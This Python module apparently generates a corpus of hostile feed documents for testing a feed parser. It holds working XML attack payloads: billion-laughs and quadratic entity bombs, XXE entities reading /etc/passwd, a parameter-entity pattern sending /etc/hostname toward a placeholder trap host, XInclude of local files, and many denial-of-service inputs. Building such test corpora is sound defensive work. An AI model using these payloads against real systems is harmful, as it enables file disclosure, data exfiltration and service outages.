"""Documents that want to cost something: time, memory, a file of ours, or a reader's trust.

Each is made when it is asked for, from a few words; none is larger than a poll may bring. A case
says what must become of it: one of these classes of failure, or taken in.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass

#: an address that nothing may ever ask for; replaced by the trap's own
TRAP = "http://trap.invalid"
OK = "ok"
ANY = frozenset({OK, "parse", "killed", "not-a-feed", "too-large"})
MILLION = 1_000_000
#: documents that only the long run reads; two of their kind are always read
LONG = frozenset(
    {
        "attributes of markup",
        "prefixes that nobody declared",
        "a million entries",
        "a hundred thousand real entries",
        "entities that nobody declared",
        "categories",
        "enclosures",
        "authors",
        "titles",
        "links",
        "contents",
        "pictures",
        "tags cut open",
        "tags that end nothing",
        "quotes cut open",
    }
)


@dataclass(frozen=True)
class Document:
    """One hostile document and what may become of it."""

    name: str
    make: Callable[[], bytes]
    kinds: frozenset[str]
    content_type: str = "application/rss+xml"
    #: takes several seconds to read, or to be given up
    is_long: bool = False


def rss(items: str | bytes = "", *, head: str = "", root: str = "") -> bytes:
    """A feed of these items, with *head* before the root and *root* among its attributes."""
    body = items if isinstance(items, bytes) else items.encode("utf-8", "surrogatepass")
    start = f"{head}<rss version='2.0'{root}><channel><title>Hostile</title><link>http://h.example/</link>"
    return start.encode() + body + b"</channel></rss>"


def item(inner: str, guid: str = "one", title: str = "Survivor") -> str:
    """One entry with something hostile inside."""
    return f"<item><guid isPermaLink='false'>{guid}</guid><title>{title}</title>{inner}</item>"


def description(html: str) -> str:
    """An entry whose escaped HTML is hostile."""
    return item(f"<description><![CDATA[{html}]]></description>")


def laughs(levels: int = 12, use: str = "&a11;") -> str:
    """A chain of entities that would expand to 10^levels letters."""
    chain = "".join(f'<!ENTITY a{n} "{(f"&a{n - 1};" if n else "ha") * 10}">' for n in range(levels))
    return (
        f"<!DOCTYPE rss [{chain}]><rss version='2.0'><channel><title>{use}</title>"
        f"<item><guid>one</guid><title>Survivor {use}</title></item></channel></rss>"
    )


def encoded(text: str, encoding: str, declared: str | None = None) -> bytes:
    """*text* in an encoding, with a declaration that names it."""
    return f"<?xml version='1.0' encoding='{declared or encoding}'?>{text}".encode(encoding)


def quadratic() -> bytes:
    """One long entity, used many times."""
    return (
        f"<!DOCTYPE rss [<!ENTITY a \"{'a' * 100_000}\">]><rss version='2.0'><channel>"
        f"<title>{'&a;' * 20_000}</title></channel></rss>"
    ).encode()


def external(declaration: str, use: str) -> bytes:
    """A feed that would like something else to be read."""
    return (
        f"<?xml version='1.0'?><!DOCTYPE rss {declaration}><rss version='2.0'><channel>"
        f"<title>x</title><item><guid>one</guid><title>Survivor {use}</title></item></channel></rss>"
    ).encode()


def bombs() -> Iterator[Document]:
    """Entities that grow, in every encoding a parser may read."""
    for encoding in ("utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "cp037", "utf-7", "utf-8-sig"):
        name = f"a billion laughs in {encoding}"
        yield Document(name, lambda encoding=encoding: encoded(laughs(), encoding), ANY)
    yield Document("a billion laughs that lie about the charset",
                   lambda: encoded(laughs(), "utf-16", "us-ascii"), ANY)  # fmt: skip
    yield Document("laughs in an attribute", lambda: laughs(use="").replace(
        "<item>", "<item rdf:about='&a11;'>").encode(), ANY)  # fmt: skip
    yield Document("a quadratic blow-up", quadratic, ANY)
    yield Document(
        "an entity of itself", lambda: external("[<!ENTITY a '&b;'><!ENTITY b '&a;'>]", "&a;"), ANY
    )
    yield Document("parameter entities that grow", lambda: external(
        "[<!ENTITY % a '<!ENTITY &#37; b \"&#37;c;&#37;c;&#37;c;\">'> %a; %b;]", "x"), ANY)  # fmt: skip


def outsiders() -> Iterator[Document]:
    """Documents that name files and addresses which nobody may read."""
    wishes = {
        "a DTD elsewhere": (f"SYSTEM '{TRAP}/evil.dtd'", ""),
        "a public DTD elsewhere": (f"PUBLIC '-//X//DTD X//EN' '{TRAP}/evil.dtd'", "&nbsp;"),
        "an external entity": (f"[<!ENTITY x SYSTEM '{TRAP}/entity'>]", "&x;"),
        "a file as entity": ("[<!ENTITY x SYSTEM 'file:///etc/passwd'>]", "&x;"),
        "an external parameter entity": (f"[<!ENTITY % x SYSTEM '{TRAP}/parameter'> %x;]", "&send;"),
        "a file carried out": (
            f"[<!ENTITY % f SYSTEM 'file:///etc/hostname'><!ENTITY % x SYSTEM '{TRAP}/out'> %x;]",
            "&send;",
        ),
        "entities behind a comment": (f"[<!-- ]> --><!ENTITY x SYSTEM '{TRAP}/comment'>]", "&x;"),
    }
    for name, (declaration, use) in wishes.items():
        yield Document(name, lambda d=declaration, u=use: external(d, u), ANY)
        yield Document(f"{name}, in UTF-16", lambda d=declaration, u=use: encoded(
            external(d, u).decode().removeprefix("<?xml version='1.0'?>"), "utf-16"), ANY)  # fmt: skip
    yield Document("an inclusion", lambda: rss(item(
        "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' href='file:///etc/passwd'/>"
        f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='{TRAP}/include'/>")),
        frozenset({OK}))  # fmt: skip
    yield Document("a style sheet and a schema", lambda: rss(
        item(""), head=f"<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='{TRAP}/style.xsl'?>",
        root=" xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
             f"xsi:schemaLocation='urn:x {TRAP}/x.xsd'"),
        frozenset({OK}))  # fmt: skip


def many(count: int, make: Callable[[int], str]) -> str:
    """*count* pieces, one after the other."""
    return "".join(map(make, range(count)))


def crowds() -> Iterator[Document]:
    """Too much of something that is harmless alone."""
    taken = frozenset({OK, "killed"})
    plain = {
        "depth of a hundred thousand": lambda: rss("<a>" * 100_000 + "x" + "</a>" * 100_000),
        "depth that never ends": lambda: rss("<a>" * 1_000_000),
        "depth in an entry": lambda: rss(item("<a>" * 100_000 + "</a>" * 100_000)),
        "depth in XHTML": lambda: rss(
            item(
                "<content:encoded xmlns:content='http://purl.org/rss/1.0/modules/"
                "content/'><div xmlns='http://www.w3.org/1999/xhtml'>"
                + "<div>" * 50_000
                + "</div>" * 50_000
                + "</div></content:encoded>"
            )
        ),
        "depth in markup": lambda: rss(description("<div>" * 500_000)),
        "depth of inline markup": lambda: rss(description("<b><i>" * 250_000)),
        "depth of tables": lambda: rss(description("<table><tr><td>" * 100_000)),
        "depth that is misnested": lambda: rss(description("<a href=x><table>" * 60_000 + "</a>" * 60_000)),
        "attributes of the root": lambda: rss(item(""), root=many(100_000, lambda n: f" a{n}='x'")),
        "attributes of an entry": lambda: rss(
            f"<item {many(100_000, lambda n: f' a{n}={chr(39)}x{chr(39)}')}/>"
        ),
        "attributes of markup": lambda: rss(description(f"<p {many(200_000, lambda n: f' a{n}=x')}>x</p>")),
        "names of namespaces": lambda: rss(item(""), root=many(50_000, lambda n: f" xmlns:n{n}='urn:{n}'")),
        "prefixes that nobody declared": lambda: rss(item(many(50_000, lambda n: f"<p{n}:a>x</p{n}:a>"))),
        "comments": lambda: rss("<!-- x -->" * 500_000 + item("")),
        "comments that never end": lambda: rss(item("") + "<!--" * 1_000_000),
        "comments in markup that never end": lambda: rss(description("<!--" * 1_000_000)),
        "a comment of blanks": lambda: rss(f"<!--{' ' * 9_000_000}-->" + item("")),
        "blanks before the document": lambda: b" " * 9_000_000 + rss(item("")),
        "blanks in a tag": lambda: rss(item(f"<a{' ' * 9_000_000}>x</a>")),
        "blanks in a title": lambda: rss(item("", title=" \t\n" * 3_000_000 + "x")),
        "CDATA that never ends": lambda: rss(item("") + "<![CDATA[" * 1_000_000),
        "processing instructions": lambda: rss("<?a b?>" * 500_000 + item("")),
        "instructions that never end": lambda: rss(item("") + "<?a " * 1_000_000),
        "document types": lambda: b"<!DOCTYPE rss [" * 300_000 + rss(item("")),
        "declarations": lambda: rss(
            item(""), head="<!DOCTYPE rss [" + many(100_000, lambda n: f'<!ENTITY e{n} "x">') + "]>"
        ),
        "declarations of declarations": lambda: b"<?xml version='1.0'?>" * 300_000 + rss(item("")),
        "a million entries": lambda: rss("<item/>" * MILLION),
        "a hundred thousand real entries": lambda: rss(many(100_000, lambda n: item("", guid=str(n)))),
        "a million tags left open": lambda: rss("<item>" * MILLION),
        "less-than signs": lambda: rss(item("") + "<" * 5_000_000),
        "ampersands": lambda: rss(item("", title="&" * 5_000_000)),
        "references without numbers": lambda: rss(item("", title="&#" * 3_000_000)),
        "a reference with a million digits": lambda: rss(item("", title="&#" + "1" * MILLION + ";")),
        "references beyond Unicode": lambda: rss(item("", title="&#x110000;&#xD800;&#0;&#x1;" * 200_000)),
        "entities that nobody declared": lambda: rss(item("", title="&nosuch;" * MILLION)),
        "a title of ten megabytes": lambda: rss(item("", title="word " * 1_900_000)),
        "a title of one long word": lambda: rss(item("", title="w" * 9_500_000)),
        "a title of markup": lambda: rss(item("", title="&lt;b&gt;" * 900_000)),
        "an id of ten megabytes": lambda: rss(item("", guid="g" * 9_500_000)),
        "a link of ten megabytes": lambda: rss(item(f"<link>http://h.example/{'l' * 9_000_000}</link>")),
        "a date of ten megabytes": lambda: rss(item(f"<pubDate>{'1' * 9_000_000}</pubDate>")),
        "an author of ten megabytes": lambda: rss(
            item(f"<author>{'(' * 4_000_000}{'@' * 4_000_000}</author>")
        ),
        "a category of ten megabytes": lambda: rss(item(f"<category>{'c,' * 4_500_000}</category>")),
        "categories": lambda: rss(item(many(300_000, lambda n: f"<category>{n}</category>"))),
        "enclosures": lambda: rss(item(many(100_000, lambda n: f"<enclosure url='http://h.example/{n}'/>"))),
        "authors": lambda: rss(item(many(300_000, lambda n: f"<author>{n}@h.example</author>"))),
        "titles": lambda: rss(item(many(400_000, lambda n: f"<title>{n}</title>"))),
        "links": lambda: rss(item(many(250_000, lambda n: f"<link>http://h.example/{n}</link>"))),
        "contents": lambda: rss(item(many(300_000, lambda n: f"<description>{n}</description>"))),
        "pictures of many sizes": lambda: rss(description(f"<img src=a srcset='{'a 1w, ' * 1_000_000}'>")),
        "commas for pictures": lambda: rss(description(f"<img src=a srcset='{',' * 5_000_000}'>")),
        "brackets": lambda: rss(description("<" * 5_000_000)),
        "tags cut open": lambda: rss(description("<a " * 2_000_000)),
        "quotes cut open": lambda: rss(description("<a href='" * MILLION)),
        "tags that end nothing": lambda: rss(description("</p>" * 2_000_000)),
        "frames": lambda: rss(description("<iframe src=//youtube.com/x>" * 200_000)),
        "pictures": lambda: rss(description("<img src=x>" * 500_000)),
        "words by the million": lambda: rss(description("a b " * 2_400_000)),
        "letters with many marks": lambda: rss(item("", title="a" + "\u0301" * 3_000_000)),
    }
    for name, make in plain.items():
        yield Document(name, make, taken | {"parse"}, is_long=name in LONG)


def notes() -> Iterator[Document]:
    """The same in JSON."""
    json = "application/feed+json"
    start, taken = b'{"version":"https://jsonfeed.org/version/1.1","title":"x","items":[', frozenset({OK})
    survivor = b'{"id":"one","title":"Survivor","content_text":"x"'
    plain: dict[str, tuple[Callable[[], bytes], frozenset[str]]] = {
        "JSON of great depth": (lambda: b"[" * 5_000_000, ANY),
        "objects of great depth": (lambda: b'{"a":' * 1_000_000, ANY),
        "depth in a member": (
            lambda: start + survivor + b',"x":' + b"[" * 100_000 + b"]" * 100_000 + b"}]}", ANY),
        "a million empty items": (lambda: start + b"{}," * MILLION + b"{}]}", ANY),
        "a million equal names": (lambda: b"{" + b'"a":1,' * MILLION + b'"b":2}', ANY),
        "numbers without end": (
            lambda: start + survivor + b',"x":1e999999999,"y":' + b"9" * 100_000 + b"}]}", ANY),
        "half letters": (lambda: start + survivor + b',"summary":"\\ud800 \\udc00"}]}', ANY),
        "a NUL": (lambda: start + survivor + b',"summary":"a\\u0000b"}]}', taken),
        "wrong kinds of values": (
            lambda: start + b'{"id":[1],"title":{"a":1},"url":7,"authors":"x","tags":{"a":1},"attachments":['
            b'7,null,{"url":[]}],"date_published":{}},null,7,"x",[],' + survivor + b"}]}", ANY),
        "a text that never ends": (lambda: start + survivor + b',"summary":"' + b"x" * 5_000_000, ANY),
    }  # fmt: skip
    yield from (Document(name, make, kinds, json) for name, (make, kinds) in plain.items())


def documents() -> tuple[Document, ...]:
    """Every hostile document."""
    return (*bombs(), *outsiders(), *crowds(), *notes())
